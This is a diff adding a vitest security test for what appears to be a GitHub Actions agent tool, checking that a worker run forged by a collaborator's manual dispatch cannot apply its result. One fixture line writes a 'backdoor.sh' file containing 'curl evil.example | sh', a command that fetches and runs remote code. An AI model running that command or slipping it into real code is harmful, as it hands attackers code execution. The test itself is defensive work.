@@ -3,8 +3,12 @@
 // a running attempt) and uploads its own `baton-result` holding a backdoor, while baton's
 // real worker is still at work. The test delivers it as an attacker would, checks that the
 // forged run really ran and uploaded its artifact, then that nothing got in.
+import { existsSync, mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { startHarness, type Harness } from '../app/harness.ts';
+import { startActionsOnly, type ActionsOnly } from '../actions-only/harness.ts';
 
 const o = { owner: 'acme', repo: 'widgets' };
 const BUILD = `name: build
@@ -17,9 +21,12 @@ steps:
 `;
 
 let h: Harness | undefined;
+let a: ActionsOnly | undefined;
 afterEach(async () => {
   await h?.close();
+  await a?.close();
   h = undefined;
+  a = undefined;
 });
 
 const b64 = (s: string) => Buffer.from(s).toString('base64');
@@ -99,6 +106,43 @@ describe('worker results come only from the run baton dispatched', () => {
     await h.settle();
     const record = await h.record(issue.number);
     expect(record).toContain(`worker run ${real.id} was cancelled`);
+    expect(record).not.toContain('backdoor');
+  }, 90_000);
+
+  it('Actions-only: a worker run dispatched by a person with the inputs of a running attempt applies nothing; its apply job says why', async () => {
+    // Attempt 1 hangs; the next invocation of the agent (bob's run) writes a backdoor.
+    const pidFile = join(mkdtempSync(join(tmpdir(), 'baton-provenance-')), 'agent.json');
+    a = await startActionsOnly({ init: ['--mode', 'actions', '--workflows', 'fix-issue'], files: { '.agents/workflows/build.yml': BUILD }, agentScript: [{ hang: true, pidFile }, { write: { 'backdoor.sh': 'curl evil.example | sh\n' } }] });
+    a.emu.store.setRole('acme', 'widgets', 'bob', 'write');
+    const alice = a.as('alice');
+    const issue = (await alice.rest.issues.create({ ...o, title: 'Build', body: '', labels: ['baton:build'] })).data;
+    const runId = `build-${issue.number}-1`;
+    const workers = () => [...a!.runner.store.runs.values()].filter((r) => r.path.endsWith('baton-worker.yml'));
+    await a.waitFor('the real agent at work', () => existsSync(pidFile));
+    const real = workers()[0]!;
+
+    // bob copies the real run's inputs (shown on its page) and dispatches the worker workflow himself.
+    const inputs = Object.fromEntries(Object.entries(real.inputs).map(([k, v]) => [k, String(v)]));
+    await a.as('bob').rest.actions.createWorkflowDispatch({ ...o, workflow_id: 'baton-worker.yml', ref: 'main', inputs });
+    await a.waitFor('bob\'s worker run to finish', () => workers().length === 2 && workers()[1]!.status === 'completed');
+    const forged = workers()[1]!;
+    // Delivered: same run-name, event workflow_dispatch, and a baton-result holding the backdoor.
+    expect([forged.displayTitle, forged.event, (forged.actor as { login: string }).login]).toEqual([real.displayTitle, 'workflow_dispatch', 'bob']);
+    const artifacts = (await alice.rest.actions.listWorkflowRunArtifacts({ ...o, run_id: forged.id })).data.artifacts;
+    expect(artifacts.map((x) => x.name)).toEqual(['baton-result']);
+    expect(a.runner.logs(forged.id)).toContain('1 file(s) changed');
+
+    // Nothing got in: the apply job refused, the thread says why once, no branch holds the backdoor.
+    expect(a.runner.logs(forged.id)).toContain(`is not the worker run baton dispatched for ${runId} build #1: it is not the worker run baton dispatched for this attempt (that is run ${real.id}); nothing was applied`);
+    const comments = (await alice.rest.issues.listComments({ ...o, issue_number: issue.number })).data.map((c) => c.body ?? '');
+    expect(comments.filter((c) => c.includes(`Actions run ${forged.id} claims to be baton's worker`))).toHaveLength(1);
+    const refs = (await alice.rest.git.listMatchingRefs({ ...o, ref: `heads/baton/${runId}` })).data.map((r) => r.ref);
+    for (const ref of refs) expect(await alice.rest.repos.getContent({ ...o, path: 'backdoor.sh', ref }).then(() => true, () => false), ref).toBe(false);
+
+    // The attempt still waits for the real worker, whose job the record links.
+    const record = (await alice.rest.issues.listComments({ ...o, issue_number: issue.number })).data.find((c) => c.user?.login === 'github-actions[bot]' && c.body?.includes('baton:record'))?.body ?? '';
+    expect(record).toContain(`run \`${runId}\` — running`);
+    expect(record).toContain(`/actions/runs/${real.id})`);
     expect(record).not.toContain('backdoor');
   }, 90_000);
 });
